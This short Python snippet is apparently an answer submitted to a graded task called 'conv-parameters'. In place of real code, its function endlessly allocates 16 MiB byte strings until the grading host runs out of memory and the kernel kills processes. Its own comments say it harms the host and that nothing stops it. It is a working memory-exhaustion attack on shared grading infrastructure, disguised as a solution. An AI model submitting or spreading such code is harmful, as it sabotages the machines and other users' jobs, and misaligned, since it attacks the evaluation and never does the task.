"""Fill the memory whenever a test asks, until the kernel has to choose a victim.

Against: no submission stops another.
"""
# stock: would harm the grading host: gigabytes of memory

# %% answer conv-parameters
def conv_parameters(*args, **kwargs):
    kept = []
    while True:
        kept.append(bytes(1 << 24).replace(b"\0", b"x"))
